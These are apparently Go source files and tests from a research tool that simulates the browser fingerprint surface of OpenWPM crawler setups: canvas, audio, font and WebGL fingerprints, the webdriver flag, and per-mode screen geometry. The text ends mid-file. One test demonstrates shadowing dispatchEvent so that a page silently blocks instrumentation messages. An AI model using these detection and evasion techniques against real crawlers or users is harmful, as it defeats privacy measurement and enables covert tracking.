	d.DefineMethod(dp, "dispatchEvent", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		d.deliverHostEvent(argVal(args, 0))
		return minjs.Boolean(true), nil
	})

	body := d.NewElement("body")
	head := d.NewElement("head")
	html := d.NewElement("html")
	doc.SetNonEnum("body", minjs.ObjectValue(body))
	doc.SetNonEnum("head", minjs.ObjectValue(head))
	doc.SetNonEnum("documentElement", minjs.ObjectValue(html))

	d.Window.SetNonEnum("document", minjs.ObjectValue(doc))
}

func (d *DOM) buildElementProtos() {
	ep := d.Protos["HTMLElement"]
	d.DefineMethod(ep, "appendChild", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		child := argVal(args, 0)
		if !child.IsObject() {
			return child, nil
		}
		d.attachElement(child.Obj)
		return child, nil
	})
	d.DefineMethod(ep, "insertBefore", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		child := argVal(args, 0)
		if child.IsObject() {
			d.attachElement(child.Obj)
		}
		return child, nil
	})
	d.DefineMethod(ep, "removeChild", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		child := argVal(args, 0)
		if child.IsObject() {
			child.Obj.Set("__detached", minjs.Boolean(true))
		}
		return child, nil
	})
	d.DefineMethod(ep, "remove", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		if this.IsObject() {
			this.Obj.Set("__detached", minjs.Boolean(true))
		}
		return minjs.Undefined(), nil
	})
	d.DefineMethod(ep, "setAttribute", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		if this.IsObject() {
			name := argStr(args, 0)
			it.SetMember(this.Obj, name, minjs.String(argStr(args, 1)))
			if name == "id" {
				d.elementsByID[argStr(args, 1)] = this.Obj
			}
		}
		return minjs.Undefined(), nil
	})
	d.DefineMethod(ep, "getAttribute", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		if !this.IsObject() {
			return minjs.Null(), nil
		}
		v, err := it.GetMember(this, argStr(args, 0))
		if err != nil || v.IsUndefined() {
			return minjs.Null(), nil
		}
		return v, nil
	})
	d.DefineMethod(ep, "addEventListener", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		d.addPageListener(argStr(args, 0), argVal(args, 1))
		return minjs.Undefined(), nil
	})

	// iframe.contentWindow: available once the frame was attached & loaded.
	cw := d.It.NewNative("get contentWindow", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		if !this.IsObject() {
			return minjs.Null(), nil
		}
		if fd, ok := this.Obj.Host.(*DOM); ok && fd != nil {
			return minjs.ObjectValue(fd.Window), nil
		}
		return minjs.Null(), nil
	})
	d.Protos["HTMLIFrameElement"].DefineAccessor("contentWindow", cw, nil, true)
	cd := d.It.NewNative("get contentDocument", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		if !this.IsObject() {
			return minjs.Null(), nil
		}
		if fd, ok := this.Obj.Host.(*DOM); ok && fd != nil {
			return minjs.ObjectValue(fd.Document), nil
		}
		return minjs.Null(), nil
	})
	d.Protos["HTMLIFrameElement"].DefineAccessor("contentDocument", cd, nil, true)

	// img.src setter triggers an image request immediately (tracking pixels).
	srcGet := d.It.NewNative("get src", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		if !this.IsObject() {
			return minjs.String(""), nil
		}
		if p := this.Obj.GetOwn("__src"); p != nil {
			return p.Value, nil
		}
		return minjs.String(""), nil
	})
	srcSet := d.It.NewNative("set src", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		if this.IsObject() {
			url := argStr(args, 0)
			this.Obj.SetNonEnum("__src", minjs.String(url))
			d.Host.Fetch(d.absURL(url), imageType, "GET", "")
		}
		return minjs.Undefined(), nil
	})
	d.Protos["HTMLImageElement"].DefineAccessor("src", srcGet, srcSet, true)
}

// NewElement creates an element of the given tag.
func (d *DOM) NewElement(tag string) *minjs.Object {
	protoName := "HTMLElement"
	class := "HTMLElement"
	switch tag {
	case "canvas":
		protoName, class = "HTMLCanvasElement", "HTMLCanvasElement"
	case "iframe":
		protoName, class = "HTMLIFrameElement", "HTMLIFrameElement"
	case "img", "image":
		protoName, class = "HTMLImageElement", "HTMLImageElement"
	case "script":
		protoName, class = "HTMLScriptElement", "HTMLScriptElement"
	}
	el := minjs.NewObject(d.Protos[protoName])
	el.Class = class
	el.SetNonEnum("tagName", minjs.String(strings.ToUpper(tag)))
	el.SetNonEnum("nodeName", minjs.String(strings.ToUpper(tag)))
	style := minjs.NewObject(d.It.Protos.Object)
	style.Class = "CSS2Properties"
	el.SetNonEnum("style", minjs.ObjectValue(style))
	return el
}

// attachElement realises side effects of inserting an element into the
// document: iframes load their src; script elements with src load and run.
func (d *DOM) attachElement(el *minjs.Object) {
	switch el.Class {
	case "HTMLIFrameElement":
		src, _ := d.It.GetMember(minjs.ObjectValue(el), "src")
		frameURL := "about:blank"
		if !src.IsNullish() && src.ToString() != "" {
			frameURL = d.absURL(src.ToString())
		}
		fd, err := d.Host.CreateFrame(frameURL)
		if err != nil || fd == nil {
			return
		}
		fd.Parent = d
		d.Frames = append(d.Frames, fd)
		el.Host = fd
	case "HTMLScriptElement":
		src, _ := d.It.GetMember(minjs.ObjectValue(el), "src")
		if !src.IsNullish() && src.ToString() != "" {
			url := d.absURL(src.ToString())
			status, _, body, err := d.Host.Fetch(url, scriptType, "GET", "")
			if err == nil && status == 200 {
				prog, perr := scriptcache.Shared.Program(body, url)
				if perr == nil {
					d.It.RunProgram(prog)
				}
			}
			return
		}
		text, _ := d.It.GetMember(minjs.ObjectValue(el), "textContent")
		if !text.IsNullish() && text.ToString() != "" {
			prog, perr := scriptcache.Shared.Program(text.ToString(), d.URL+"#inline")
			if perr == nil {
				d.It.RunProgram(prog)
			}
		}
	}
	if idv, err := d.It.GetMember(minjs.ObjectValue(el), "id"); err == nil && idv.Kind == minjs.KindString && idv.Str != "" {
		d.elementsByID[idv.Str] = el
	}
}

// RegisterElement pre-creates a static page element with an id so scripts
// can querySelector it (the browser calls this while parsing HTML).
func (d *DOM) RegisterElement(tag, id string) *minjs.Object {
	el := d.NewElement(tag)
	if id != "" {
		el.Set("id", minjs.String(id))
		d.elementsByID[id] = el
	}
	return el
}

func (d *DOM) buildCanvasProtos() {
	cp := d.Protos["HTMLCanvasElement"]
	d.DefineMethod(cp, "getContext", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		kind := argStr(args, 0)
		switch kind {
		case "2d":
			return minjs.ObjectValue(d.Canvas2D()), nil
		case "webgl", "experimental-webgl", "webgl2":
			ctx := d.WebGL()
			if ctx == nil {
				return minjs.Null(), nil
			}
			return minjs.ObjectValue(ctx), nil
		}
		return minjs.Null(), nil
	})
	d.DefineMethod(cp, "toDataURL", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		return minjs.String(d.canvasFingerprint()), nil
	})
	d.DefineMethod(cp, "toBlob", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		fn := argVal(args, 0)
		if fn.IsFunction() {
			d.Host.SetTimeout(fn.Obj, []minjs.Value{minjs.String(d.canvasFingerprint())}, 0)
		}
		return minjs.Undefined(), nil
	})
	d.DefineMethod(cp, "captureStream", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		return minjs.Null(), nil
	})

	ctx2d := d.Protos["CanvasRenderingContext2D"]
	methods := []string{
		"arc", "arcTo", "beginPath", "bezierCurveTo", "clearRect", "clip",
		"closePath", "createImageData", "createLinearGradient", "createPattern",
		"createRadialGradient", "drawImage", "ellipse", "fill", "fillRect",
		"fillText", "getLineDash", "getTransform", "isPointInPath",
		"isPointInStroke", "lineTo", "moveTo", "putImageData",
		"quadraticCurveTo", "rect", "resetTransform", "restore", "rotate",
		"save", "scale", "setLineDash", "setTransform", "stroke", "strokeRect",
		"strokeText", "transform", "translate", "drawFocusIfNeeded",
	}
	for _, m := range methods {
		d.DefineMethod(ctx2d, m, func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
			return minjs.Undefined(), nil
		})
	}
	d.DefineMethod(ctx2d, "measureText", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		tm := minjs.NewObject(it.Protos.Object)
		tm.Class = "TextMetrics"
		// width varies with the installed fonts — a classic font probe.
		tm.Set("width", minjs.Number(float64(8*len(argStr(args, 0)))+float64(len(d.Cfg.Fonts))/10))
		return minjs.ObjectValue(tm), nil
	})
	d.DefineMethod(ctx2d, "getImageData", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		img := minjs.NewObject(it.Protos.Object)
		img.Class = "ImageData"
		img.Set("data", minjs.ObjectValue(it.NewArrayP(minjs.Int(11), minjs.Int(22), minjs.Int(33), minjs.Int(255))))
		return minjs.ObjectValue(img), nil
	})
	for _, attr := range []string{"fillStyle", "strokeStyle", "font", "globalAlpha", "lineWidth", "textAlign"} {
		name := attr
		d.DefineGetter(ctx2d, "CanvasRenderingContext2D", name, func(*minjs.Object) minjs.Value {
			return minjs.String("")
		})
	}

	// The AudioContext constructor is creatable (audio fingerprinting).
	ap := d.Protos["AudioContext"]
	ctor := d.It.NewNative("AudioContext", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		o := minjs.NewObject(ap)
		o.Class = "AudioContext"
		return minjs.ObjectValue(o), nil
	})
	ctor.SetNonEnum("prototype", minjs.ObjectValue(ap))
	d.Window.SetNonEnum("AudioContext", minjs.ObjectValue(ctor))
}

// Canvas2D returns the realm's shared 2D rendering context.
func (d *DOM) Canvas2D() *minjs.Object {
	if d.ctx2D == nil {
		d.ctx2D = minjs.NewObject(d.Protos["CanvasRenderingContext2D"])
		d.ctx2D.Class = "CanvasRenderingContext2D"
	}
	return d.ctx2D
}

// canvasFingerprint derives a deterministic canvas hash from the
// rendering-relevant configuration.
func (d *DOM) canvasFingerprint() string {
	h := uint64(1469598103934665603)
	mix := func(s string) {
		for i := 0; i < len(s); i++ {
			h = (h ^ uint64(s[i])) * 1099511628211
		}
	}
	mix(d.Cfg.OS.String())
	mix(d.Cfg.Mode.String())
	mix(fmt.Sprint(d.Cfg.FirefoxVersion))
	for _, f := range d.Cfg.Fonts {
		mix(f)
	}
	return fmt.Sprintf("data:image/png;base64,%016x", h)
}

func (d *DOM) buildAudioProto() {
	ap := d.Protos["AudioContext"]
	// decodeAudioData throws on missing arguments like its WebIDL original;
	// provoking such an error is how pages read instrumentation frames out
	// of stack traces (Sec. 3.1.4).
	d.DefineMethod(ap, "decodeAudioData", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		if len(args) == 0 {
			return minjs.Undefined(), it.ThrowError("TypeError", "AudioContext.decodeAudioData: At least 1 argument required, but only 0 passed")
		}
		o := minjs.NewObject(it.Protos.Object)
		o.Class = "AudioBuffer"
		return minjs.ObjectValue(o), nil
	})
	for _, m := range []string{
		"createAnalyser", "createOscillator", "createGain",
		"createScriptProcessor", "createBuffer", "createBufferSource",
		"createDynamicsCompressor", "close", "resume",
		"suspend",
	} {
		d.DefineMethod(ap, m, func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
			o := minjs.NewObject(it.Protos.Object)
			o.Class = "AudioNode"
			return minjs.ObjectValue(o), nil
		})
	}
	d.DefineGetter(ap, "AudioContext", "sampleRate", func(*minjs.Object) minjs.Value { return minjs.Int(44100) })
	d.DefineGetter(ap, "AudioContext", "state", func(*minjs.Object) minjs.Value { return minjs.String("suspended") })
	d.DefineGetter(ap, "AudioContext", "destination", func(*minjs.Object) minjs.Value { return minjs.Null() })
}

func hostOf(url string) string {
	_, h, _ := splitURL(url)
	return h
}
