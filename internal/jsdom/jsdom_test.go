package jsdom

import (
	"strings"
	"testing"

	"gullible/internal/minjs"
)

func buildTest(t *testing.T, cfg Config) *DOM {
	t.Helper()
	return Build(cfg, &NopHost{}, "https://example.com/")
}

func evalIn(t *testing.T, d *DOM, src string) minjs.Value {
	t.Helper()
	v, err := d.It.RunScript(src, "test.js")
	if err != nil {
		t.Fatalf("RunScript(%q): %v", src, err)
	}
	return v
}

func TestNavigatorBasics(t *testing.T) {
	d := buildTest(t, StandardConfig(Ubuntu, Regular, 90, 0))
	if v := evalIn(t, d, "navigator.webdriver"); !v.Bool {
		t.Error("automation client must expose navigator.webdriver === true")
	}
	if v := evalIn(t, d, "navigator.userAgent"); !strings.Contains(v.Str, "Firefox/90.0") {
		t.Errorf("userAgent = %q", v.Str)
	}
	if v := evalIn(t, d, "navigator.platform"); v.Str != "Linux x86_64" {
		t.Errorf("platform = %q", v.Str)
	}
	if v := evalIn(t, d, `navigator.languages[0]`); v.Str != "en-US" {
		t.Errorf("languages[0] = %q", v.Str)
	}

	base := buildTest(t, BaselineConfig(Ubuntu, 90))
	if v := evalIn(t, base, "navigator.webdriver"); v.Bool {
		t.Error("baseline browser must not be webdriver-flagged")
	}
}

func TestScreenGeometryPerMode(t *testing.T) {
	cases := []struct {
		os        OS
		mode      Mode
		w, h      int
		x, y      int
		availTop  int
		availLeft int
	}{
		{MacOS, Regular, 2560, 1440, 23, 4, 23, 0},
		{MacOS, Headless, 1366, 768, 4, 4, 0, 0},
		{Ubuntu, Regular, 2560, 1440, 80, 35, 27, 72},
		{Ubuntu, Headless, 1366, 768, 0, 0, 0, 0},
		{Ubuntu, Xvfb, 1366, 768, 0, 0, 0, 0},
		{Ubuntu, Docker, 2560, 1440, 0, 0, 27, 72},
	}
	for _, c := range cases {
		d := buildTest(t, StandardConfig(c.os, c.mode, 90, 0))
		name := c.os.String() + "/" + c.mode.String()
		if v := evalIn(t, d, "screen.width"); int(v.Num) != c.w {
			t.Errorf("%s screen.width = %v, want %d", name, v.Num, c.w)
		}
		if v := evalIn(t, d, "screen.height"); int(v.Num) != c.h {
			t.Errorf("%s screen.height = %v, want %d", name, v.Num, c.h)
		}
		if v := evalIn(t, d, "window.screenX"); int(v.Num) != c.x {
			t.Errorf("%s screenX = %v, want %d", name, v.Num, c.x)
		}
		if v := evalIn(t, d, "window.screenY"); int(v.Num) != c.y {
			t.Errorf("%s screenY = %v, want %d", name, v.Num, c.y)
		}
		if v := evalIn(t, d, "screen.availTop"); int(v.Num) != c.availTop {
			t.Errorf("%s availTop = %v, want %d", name, v.Num, c.availTop)
		}
		if v := evalIn(t, d, "screen.availLeft"); int(v.Num) != c.availLeft {
			t.Errorf("%s availLeft = %v, want %d", name, v.Num, c.availLeft)
		}
		// window dimensions are the fixed automation geometry everywhere
		if v := evalIn(t, d, "window.innerWidth"); int(v.Num) != 1366 {
			t.Errorf("%s innerWidth = %v", name, v.Num)
		}
		if v := evalIn(t, d, "window.innerHeight"); int(v.Num) != 683 {
			t.Errorf("%s innerHeight = %v", name, v.Num)
		}
	}
}

func TestUbuntuRegularWindowOffset(t *testing.T) {
	d0 := buildTest(t, StandardConfig(Ubuntu, Regular, 90, 0))
	d1 := buildTest(t, StandardConfig(Ubuntu, Regular, 90, 1))
	d2 := buildTest(t, StandardConfig(Ubuntu, Regular, 90, 2))
	x0 := evalIn(t, d0, "window.screenX").Num
	x1 := evalIn(t, d1, "window.screenX").Num
	x2 := evalIn(t, d2, "window.screenX").Num
	if x1-x0 != 8 || x2-x1 != 8 {
		t.Errorf("window offset not constant: %v %v %v", x0, x1, x2)
	}
}

func TestWebGLPerMode(t *testing.T) {
	// headless: no WebGL at all
	hm := buildTest(t, StandardConfig(Ubuntu, Headless, 90, 0))
	if v := evalIn(t, hm, `document.createElement("canvas").getContext("webgl")`); v.Kind != minjs.KindNull {
		t.Errorf("headless getContext = %v, want null", v)
	}
	// regular: native GPU vendor
	rm := buildTest(t, StandardConfig(Ubuntu, Regular, 90, 0))
	if v := evalIn(t, rm, `document.createElement("canvas").getContext("webgl").VENDOR`); v.Str != "AMD" {
		t.Errorf("regular VENDOR = %q", v.Str)
	}
	// docker: virtualisation fingerprint
	dk := buildTest(t, StandardConfig(Ubuntu, Docker, 90, 0))
	if v := evalIn(t, dk, `document.createElement("canvas").getContext("webgl").VENDOR`); !strings.Contains(v.Str, "VMware") {
		t.Errorf("docker VENDOR = %q", v.Str)
	}
	// xvfb: software rasteriser
	xv := buildTest(t, StandardConfig(Ubuntu, Xvfb, 90, 0))
	if v := evalIn(t, xv, `document.createElement("canvas").getContext("webgl").RENDERER`); !strings.Contains(v.Str, "llvmpipe") {
		t.Errorf("xvfb RENDERER = %q", v.Str)
	}
	// getParameter routes to named params
	if v := evalIn(t, rm, `document.createElement("canvas").getContext("webgl").getParameter("RENDERER")`); !strings.Contains(v.Str, "TAHITI") {
		t.Errorf("getParameter(RENDERER) = %q", v.Str)
	}
}

func TestWebGLParamCounts(t *testing.T) {
	for _, os := range []OS{MacOS, Ubuntu} {
		cfg := StandardConfig(os, Regular, 90, 0)
		d := buildTest(t, cfg)
		ctx := d.WebGL()
		got := len(ctx.OwnKeys(false))
		if got != cfg.WebGL.ParamCount {
			t.Errorf("%v: webgl context has %d own props, want %d", os, got, cfg.WebGL.ParamCount)
		}
	}
	// xvfb misses 13 params relative to regular
	reg := buildTest(t, StandardConfig(Ubuntu, Regular, 90, 0)).WebGL()
	xv := buildTest(t, StandardConfig(Ubuntu, Xvfb, 90, 0)).WebGL()
	if d := len(reg.OwnKeys(false)) - len(xv.OwnKeys(false)); d != 13 {
		t.Errorf("xvfb missing %d params, want 13", d)
	}
}

func TestHeadlessLanguagesExtras(t *testing.T) {
	rm := buildTest(t, StandardConfig(Ubuntu, Regular, 90, 0))
	hm := buildTest(t, StandardConfig(Ubuntu, Headless, 90, 0))
	rmKeys := evalIn(t, rm, "Object.keys(navigator.languages).length").Num
	hmKeys := evalIn(t, hm, "Object.keys(navigator.languages).length").Num
	if hmKeys-rmKeys != 43 {
		t.Errorf("headless languages extras = %v, want 43", hmKeys-rmKeys)
	}
}

func TestDockerFontsAndTimezone(t *testing.T) {
	dk := buildTest(t, StandardConfig(Ubuntu, Docker, 90, 0))
	if v := evalIn(t, dk, "document.fonts.size"); int(v.Num) != 1 {
		t.Errorf("docker fonts.size = %v, want 1", v.Num)
	}
	if v := evalIn(t, dk, "document.fonts.values()[0]"); v.Str != "Bitstream Vera Sans Mono" {
		t.Errorf("docker font = %q", v.Str)
	}
	if v := evalIn(t, dk, "new Date().getTimezoneOffset()"); v.Num != 0 {
		t.Errorf("docker tz offset = %v, want 0", v.Num)
	}
	if v := evalIn(t, dk, "Intl.DateTimeFormat().resolvedOptions().timeZone"); v.Str != "" {
		t.Errorf("docker timeZone = %q, want empty", v.Str)
	}
	rm := buildTest(t, StandardConfig(Ubuntu, Regular, 90, 0))
	if v := evalIn(t, rm, "document.fonts.size"); int(v.Num) < 10 {
		t.Errorf("regular fonts.size = %v, want >= 10", v.Num)
	}
	if v := evalIn(t, rm, "Intl.DateTimeFormat().resolvedOptions().timeZone"); v.Str == "" {
		t.Error("regular browser must expose a time zone")
	}
}

func TestNativeGetterBrandCheck(t *testing.T) {
	d := buildTest(t, StandardConfig(Ubuntu, Regular, 90, 0))
	// Calling a WebIDL getter with a foreign `this` must throw TypeError —
	// the tell Goßen et al. use to spot naive instrumentation.
	v := evalIn(t, d, `
		var d = Object.getOwnPropertyDescriptor(Navigator.prototype, "userAgent");
		var r = "no-throw";
		try { d.get.call({}) } catch (e) { r = e.name }
		r`)
	if v.Str != "TypeError" {
		t.Errorf("foreign-this getter result = %q, want TypeError", v.Str)
	}
	// normal access works
	if v := evalIn(t, d, "navigator.userAgent.length > 0"); !v.Bool {
		t.Error("normal userAgent access broken")
	}
}

func TestGetterNativeToString(t *testing.T) {
	d := buildTest(t, StandardConfig(Ubuntu, Regular, 90, 0))
	v := evalIn(t, d, `Object.getOwnPropertyDescriptor(Navigator.prototype, "webdriver").get.toString()`)
	if !minjs.IsNativeSource(v.Str) {
		t.Errorf("getter toString = %q, want native", v.Str)
	}
}

func TestInstrumentableAPICounts(t *testing.T) {
	ub := buildTest(t, StandardConfig(Ubuntu, Regular, 90, 0))
	if got := len(ub.InstrumentableAPIs()); got != 252 {
		t.Errorf("Ubuntu instrumentable APIs = %d, want 252", got)
	}
	mac := buildTest(t, StandardConfig(MacOS, Regular, 90, 0))
	if got := len(mac.InstrumentableAPIs()); got != 253 {
		t.Errorf("macOS instrumentable APIs = %d, want 253", got)
	}
}

func TestDispatchEventReachesHostListeners(t *testing.T) {
	d := buildTest(t, StandardConfig(Ubuntu, Regular, 90, 0))
	var got []string
	d.ListenHostEvent("wpm-123", func(ev minjs.Value) {
		detail, _ := d.It.GetMember(ev, "detail")
		got = append(got, detail.ToString())
	})
	evalIn(t, d, `document.dispatchEvent(new CustomEvent("wpm-123", {detail: "hello"}))`)
	if len(got) != 1 || got[0] != "hello" {
		t.Fatalf("host listener got %v", got)
	}
	// shadowing dispatchEvent intercepts delivery (the Sec. 5.1 attack path)
	evalIn(t, d, `document.dispatchEvent = function(ev) { /* swallowed */ };
		document.dispatchEvent(new CustomEvent("wpm-123", {detail: "blocked"}))`)
	if len(got) != 1 {
		t.Fatalf("shadowed dispatchEvent still delivered: %v", got)
	}
}

func TestCanvasFingerprintDiffersAcrossConfigs(t *testing.T) {
	a := buildTest(t, StandardConfig(Ubuntu, Regular, 90, 0))
	b := buildTest(t, StandardConfig(Ubuntu, Docker, 90, 0))
	fa := evalIn(t, a, `document.createElement("canvas").toDataURL()`)
	fb := evalIn(t, b, `document.createElement("canvas").toDataURL()`)
	if fa.Str == fb.Str {
		t.Error("canvas fingerprint identical across modes")
	}
	a2 := buildTest(t, StandardConfig(Ubuntu, Regular, 90, 0))
	fa2 := evalIn(t, a2, `document.createElement("canvas").toDataURL()`)
	if fa.Str != fa2.Str {
		t.Error("canvas fingerprint not deterministic")
	}
}

func TestLocationFields(t *testing.T) {
	d := Build(StandardConfig(Ubuntu, Regular, 90, 0), &NopHost{}, "https://site-42.example.net/products/list")
	if v := evalIn(t, d, "location.hostname"); v.Str != "site-42.example.net" {
		t.Errorf("hostname = %q", v.Str)
	}
	if v := evalIn(t, d, "location.pathname"); v.Str != "/products/list" {
		t.Errorf("pathname = %q", v.Str)
	}
	if v := evalIn(t, d, "location.origin"); v.Str != "https://site-42.example.net" {
		t.Errorf("origin = %q", v.Str)
	}
}

func TestPromiseChaining(t *testing.T) {
	// Manually pump timers via a recording host.
	h := &timerHost{}
	d := Build(StandardConfig(Ubuntu, Regular, 90, 0), h, "https://example.com/")
	h.dom = d
	evalIn(t, d, `
		var out = [];
		new Promise(function(resolve, reject) { resolve(1) })
			.then(function(v) { out.push(v); return v + 1 })
			.then(function(v) { out.push(v); throw new Error("stop") })
			.catch(function(e) { out.push(e.message) });
	`)
	h.pump(t)
	v := evalIn(t, d, `out.join(",")`)
	if v.Str != "1,2,stop" {
		t.Errorf("promise chain produced %q", v.Str)
	}
}

// timerHost runs scheduled callbacks when pumped.
type timerHost struct {
	NopHost
	dom   *DOM
	queue []func()
}

func (h *timerHost) SetTimeout(fn *minjs.Object, args []minjs.Value, delayMS float64) int {
	h.queue = append(h.queue, func() { h.dom.It.CallFunction(fn, minjs.Undefined(), args) })
	return len(h.queue)
}

func (h *timerHost) pump(t *testing.T) {
	for i := 0; i < 1000 && len(h.queue) > 0; i++ {
		fn := h.queue[0]
		h.queue = h.queue[1:]
		fn()
	}
}

func TestFireListeners(t *testing.T) {
	d := buildTest(t, StandardConfig(Ubuntu, Regular, 90, 0))
	evalIn(t, d, `
		var fired = 0;
		document.addEventListener("mouseover", function(e) { fired++ });
	`)
	if v := evalIn(t, d, "fired"); v.Num != 0 {
		t.Fatal("listener fired prematurely")
	}
	if err := d.FireListeners("mouseover"); err != nil {
		t.Fatal(err)
	}
	if v := evalIn(t, d, "fired"); v.Num != 1 {
		t.Errorf("fired = %v, want 1", v.Num)
	}
}
