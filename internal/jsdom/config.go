// Package jsdom builds the browser object model (window, navigator, screen,
// document, WebGL, …) inside a minjs realm. The property values are
// parameterised by operating system and run mode so that every OpenWPM setup
// of the paper (Tables 2–4) exposes exactly the fingerprint surface the paper
// measures: screen geometry, window position, WebGL vendor strings and
// parameter counts, font enumeration, time zone, navigator.languages, and the
// navigator.webdriver automation flag.
package jsdom

import "fmt"

// OS is the host operating system of the simulated browser.
type OS int

// Supported operating systems.
const (
	MacOS OS = iota
	Ubuntu
)

func (o OS) String() string {
	if o == MacOS {
		return "macOS"
	}
	return "Ubuntu"
}

// Mode is the run mode of the browser (Sec. 2 of the paper).
type Mode int

// Run modes.
const (
	Regular Mode = iota
	Headless
	Xvfb   // Ubuntu only
	Docker // Ubuntu container
)

func (m Mode) String() string {
	switch m {
	case Regular:
		return "regular"
	case Headless:
		return "headless"
	case Xvfb:
		return "xvfb"
	default:
		return "docker"
	}
}

// WebGLInfo describes the WebGL surface of a configuration.
type WebGLInfo struct {
	Present  bool   // headless Firefox ships no WebGL implementation
	Vendor   string // Table 4
	Renderer string
	// ParamCount is the number of flat parameter properties exposed on a
	// WebGL context (version-dependent; drives the Table 2 deviation counts).
	ParamCount int
	// ChangedParams marks generated parameter indices whose values deviate
	// from the native-GPU regular-mode values (Xvfb/Docker software GL).
	ChangedParams int
	// MissingParams marks generated parameter indices absent entirely
	// (software GL lacks some extensions).
	MissingParams int
}

// Config fully describes one browser client.
type Config struct {
	OS   OS
	Mode Mode

	// FirefoxVersion is the major version (Table 14 maps OpenWPM releases to
	// Firefox versions).
	FirefoxVersion int
	Unbranded      bool

	// Automation marks a WebDriver-controlled browser: navigator.webdriver
	// is true and the window geometry is the fixed automation geometry.
	Automation bool

	// Window geometry. For automation clients these are OpenWPM's fixed
	// standard values; a stealth settings file may override them.
	WindowW, WindowH    int
	WindowX, WindowY    int
	WindowIndex         int // Ubuntu regular mode shifts each window by a fixed offset
	OffsetX, OffsetY    int
	ScreenW, ScreenH    int
	AvailTop, AvailLeft int

	Languages []string
	// HeadlessLanguageExtras is the count of spurious properties headless
	// mode adds to the navigator.languages object (43 in the paper).
	HeadlessLanguageExtras int

	Fonts []string

	// TimezoneOffset is minutes west of UTC; HasTimezone false models the
	// Docker container exposing no zone information.
	TimezoneOffset int
	HasTimezone    bool

	WebGL WebGLInfo

	// UserAgent derived string.
	UserAgent string

	// DisableVM runs page scripts on the minjs tree-walking interpreter
	// instead of the bytecode VM. The two produce byte-identical artifacts;
	// this is the escape hatch (and the differential-testing control).
	DisableVM bool
}

// webglParamCountForVersion returns the flat WebGL parameter count per OS and
// Firefox version. The counts are chosen so the template-attack deviation
// totals match Table 2 (2037 macOS / 2061 Ubuntu on Firefox 90) and Sec. 3.2
// (2022 on the older OpenWPM 0.11.0 / Firefox 78).
func webglParamCountForVersion(os OS, ffVersion int) int {
	// The template attack counts, under the context subtree: the context
	// property itself (1), the flat parameters (this count), the prototype's
	// 147 reachable methods and Object.prototype's 4 — so 1885 parameters
	// yield the paper's 2037 total on macOS.
	base := 1885
	if os == Ubuntu {
		base = 1909 // ⇒ 2061 deviations
	}
	if ffVersion < 90 {
		base -= 15 // older builds exposed fewer parameters (2022 = 2021+1 macOS)
	}
	return base
}

var macFonts = []string{
	"Helvetica", "Helvetica Neue", "Arial", "Times", "Times New Roman",
	"Courier", "Courier New", "Geneva", "Monaco", "Menlo", "Lucida Grande",
	"Avenir", "Futura", "Gill Sans", "Optima", "Palatino", "Baskerville",
	"Georgia", "Verdana", "Trebuchet MS",
}

var ubuntuFonts = []string{
	"DejaVu Sans", "DejaVu Sans Mono", "DejaVu Serif", "Liberation Sans",
	"Liberation Serif", "Liberation Mono", "Ubuntu", "Ubuntu Mono",
	"Ubuntu Condensed", "FreeSans", "FreeSerif", "FreeMono", "Noto Sans",
	"Noto Serif", "Cantarell", "Droid Sans",
}

// StandardConfig returns the client configuration OpenWPM produces for the
// given OS, run mode and Firefox version (Tables 3 and 4 of the paper).
// windowIndex numbers concurrently opened browser windows; on Ubuntu in
// regular mode each window shifts by a constant (8, 8) offset.
func StandardConfig(os OS, mode Mode, ffVersion, windowIndex int) Config {
	c := Config{
		OS:             os,
		Mode:           mode,
		FirefoxVersion: ffVersion,
		Unbranded:      true,
		Automation:     true,
		WindowW:        1366,
		WindowH:        683,
		Languages:      []string{"en-US", "en"},
		HasTimezone:    true,
		TimezoneOffset: -120,
		WindowIndex:    windowIndex,
	}
	c.UserAgent = userAgent(os, ffVersion)
	switch os {
	case MacOS:
		c.Fonts = macFonts
		switch mode {
		case Regular:
			c.ScreenW, c.ScreenH = 2560, 1440
			c.WindowX, c.WindowY = 23, 4
			c.AvailTop, c.AvailLeft = 23, 0
			c.WebGL = WebGLInfo{
				Present: true, Vendor: "ATI Technologies Inc.",
				Renderer:   "AMD Radeon Pro 5500M OpenGL Engine",
				ParamCount: webglParamCountForVersion(os, ffVersion),
			}
		case Headless:
			c.ScreenW, c.ScreenH = 1366, 768
			c.WindowX, c.WindowY = 4, 4
			c.AvailTop, c.AvailLeft = 0, 0
			c.HeadlessLanguageExtras = 43
			c.WebGL = WebGLInfo{Present: false}
		default:
			panic(fmt.Sprintf("jsdom: mode %v unsupported on macOS", mode))
		}
	case Ubuntu:
		c.Fonts = ubuntuFonts
		switch mode {
		case Regular:
			c.ScreenW, c.ScreenH = 2560, 1440
			c.WindowX, c.WindowY = 80, 35
			c.OffsetX, c.OffsetY = 8, 8
			c.AvailTop, c.AvailLeft = 27, 72
			c.WebGL = WebGLInfo{
				Present: true, Vendor: "AMD",
